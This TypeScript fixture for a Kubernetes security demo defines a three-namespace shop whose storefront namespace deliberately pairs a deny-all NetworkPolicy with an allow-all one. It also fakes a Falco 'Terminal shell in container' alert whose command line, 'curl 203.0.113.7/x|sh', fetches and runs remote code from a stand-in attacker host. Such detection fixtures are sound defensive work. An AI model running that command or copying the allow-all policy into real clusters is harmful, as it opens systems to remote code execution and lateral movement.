/** The cluster's objects of the demo: a shop of three namespaces, in one of which an allow-all policy stands beside a deny-all. */

const namespaces = ['storefront', 'checkout', 'catalogue'] as const;

/** Kinds of workloads that roll their pods out. */
export const workloadKinds = ['Deployment', 'StatefulSet', 'DaemonSet'] as const;

export const workload = (
  namespace: string,
  name: string,
  image: string,
  replicas: number,
  hostNetwork = false,
  serviceAccountName = 'default',
  kind: (typeof workloadKinds)[number] = 'Deployment',
) => ({
  apiVersion: 'apps/v1',
  kind,
  metadata: { name, namespace, labels: { app: name } },
  spec: {
    ...(kind === 'DaemonSet' ? {} : { replicas }),
    ...(kind === 'StatefulSet' ? { serviceName: name } : {}),
    selector: { matchLabels: { app: name } },
    template: {
      metadata: { labels: { app: name } },
      spec: {
        hostNetwork,
        serviceAccountName,
        containers: [{ name, image, ports: [{ containerPort: 8080, name: 'http' }] }],
      },
    },
  },
});

const service = (namespace: string, name: string) => ({
  apiVersion: 'v1',
  kind: 'Service',
  metadata: { name, namespace },
  spec: { selector: { app: name }, ports: [{ name: 'http', port: 80, targetPort: 'http' }] },
});

export const policy = (
  namespace: string,
  name: string,
  spec: object,
  annotations: { [key: string]: string } = {},
) => ({
  apiVersion: 'networking.k8s.io/v1',
  kind: 'NetworkPolicy',
  metadata: { name, namespace, annotations },
  spec,
});

/** What `kubectl apply` is given. */
export const shop = {
  apiVersion: 'v1',
  kind: 'List',
  items: [
    ...namespaces.map((name) => ({
      apiVersion: 'v1',
      kind: 'Namespace',
      metadata: { name, labels: { shop: 'demo' } },
    })),
    workload('storefront', 'web', 'registry.example/shop/web:1.4.2', 3),
    workload('checkout', 'payments', 'registry.example/shop/payments:2.0.1', 2),
    workload('catalogue', 'search', 'registry.example/shop/search:0.9.0', 1),
    service('storefront', 'web'),
    service('checkout', 'payments'),
    service('catalogue', 'search'),
    policy('storefront', 'default-deny', { podSelector: {}, policyTypes: ['Ingress', 'Egress'] }),
    // Somebody's shortcut: beside it, the deny above denies nothing.
    policy(
      'storefront',
      'temporary-allow-all',
      { podSelector: {}, policyTypes: ['Ingress', 'Egress'], ingress: [{}], egress: [{}] },
      { 'shop.example/owner': 'web team', 'shop.example/reason': 'launch week' },
    ),
    policy('storefront', 'web-from-anywhere', {
      podSelector: { matchLabels: { app: 'web' } },
      policyTypes: ['Ingress'],
      ingress: [
        {
          from: [{ ipBlock: { cidr: '0.0.0.0/0', except: ['10.66.0.0/16'] } }],
          ports: [{ protocol: 'TCP', port: 'http' }],
        },
      ],
    }),
    policy('checkout', 'payments-from-storefront', {
      podSelector: { matchLabels: { app: 'payments' } },
      policyTypes: ['Ingress'],
      ingress: [
        {
          from: [{ namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': 'storefront' } } }],
          ports: [{ protocol: 'TCP', port: 8080, endPort: 8090 }],
        },
      ],
    }),
  ],
};

/** The namespace under attack. */
export const victim = 'storefront';

/** What Falco posts (json_output) when somebody opens a shell in a container of the shop. `evt.time` exceeds 2^53. */
export function falcoAlert(pod: string, at: Date, namespace: string = victim): string {
  const time = at.toISOString().replace('Z', '000000Z');
  const nanoseconds = `${at.getTime()}123456`;
  const fields = [
    `"container.id":"3f9b2c1d7a10"`,
    `"container.image.repository":"registry.example/shop/web"`,
    `"container.image.tag":"1.4.2"`,
    `"container.name":"web"`,
    `"evt.time":${nanoseconds}`,
    `"k8s.ns.name":"${namespace}"`,
    `"k8s.pod.name":"${pod}"`,
    `"proc.cmdline":"sh -c curl 203.0.113.7/x|sh"`,
    `"proc.pname":"node"`,
    `"proc.tty":34816,"user.name":"root","user.uid":0`,
  ];
  return (
    `{"hostname":"node-1","output":"A shell was spawned in a container with an attached terminal (user=root k8s.ns=${namespace} k8s.pod=${pod} container=web)",` +
    `"output_fields":{${fields.join(',')}},"priority":"Critical","rule":"Terminal shell in container","source":"syscall",` +
    `"tags":["T1059","container","mitre_execution","shell"],"time":"${time}"}`
  );
}
